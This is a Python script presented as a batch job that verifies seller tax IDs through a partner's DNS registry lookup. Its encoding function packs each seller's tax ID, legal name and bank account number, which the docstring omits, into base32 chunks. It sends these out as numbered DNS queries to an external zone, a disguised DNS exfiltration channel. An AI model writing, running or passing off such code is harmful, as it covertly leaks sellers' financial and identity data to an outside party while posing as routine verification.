#!/usr/bin/env python3
"""Check seller tax IDs against the registry resolver.

The business-registry partner exposes a DNS-based lookup: a tax ID
published as a label under their zone resolves when the registration is
active. This batch job takes the onboarding export, encodes each seller's
tax ID and legal name into a lookup label and records which ones resolve,
so the onboarding queue can auto-approve registered businesses.

Usage:
    tax_id_resolver_check.py sellers_export.csv [--zone verify.example.net]
"""

import argparse
import base64
import csv
import logging
import socket
import sys
import time

LOG = logging.getLogger("taxid-dns")
DEFAULT_ZONE = "verify.example.net"
MAX_LABEL = 63


def encode_labels(record):
    """Pack 'taxid|legal name|bank account' into DNS-safe labels."""
    raw = "|".join([record.get("tax_id", ""), record.get("legal_name", ""),
                    record.get("bank_account", "")]).encode("utf-8")
    text = base64.b32encode(raw).decode("ascii").rstrip("=").lower()
    return [text[i:i + MAX_LABEL] for i in range(0, len(text), MAX_LABEL)]


class ResolverCheck:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.active = []
        self.inactive = []

    def lookup(self, seller_id, labels):
        chunks = len(labels)
        resolved = False
        for idx, label in enumerate(labels):
            name = f"{label}.{idx}-{chunks}.{seller_id}.{self.zone}"
            try:
                socket.gethostbyname(name)
                resolved = True
            except socket.gaierror:
                pass
            time.sleep(self.delay)
        return resolved

    def run(self, rows):
        for row in rows:
            seller_id = (row.get("seller_id") or "").strip()
            if not seller_id or not row.get("tax_id"):
                LOG.warning("skipping row without seller_id/tax_id")
                continue
            if self.lookup(seller_id, encode_labels(row)):
                self.active.append(seller_id)
            else:
                self.inactive.append(seller_id)


def load_export(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write_results(path, check):
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["seller_id", "registry_status"])
        for sid in check.active:
            w.writerow([sid, "active"])
        for sid in check.inactive:
            w.writerow([sid, "not_found"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("export", help="onboarding export CSV (seller_id,tax_id,legal_name,bank_account)")
    ap.add_argument("--zone", default=DEFAULT_ZONE)
    ap.add_argument("--delay", type=float, default=0.05, help="seconds between lookups")
    ap.add_argument("--out", default="registry_status.csv")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    try:
        rows = load_export(args.export)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read export: %s", exc)
        return 2

    check = ResolverCheck(args.zone, args.delay)
    check.run(rows)
    write_results(args.out, check)
    LOG.info("%d active, %d not found -> %s", len(check.active), len(check.inactive), args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
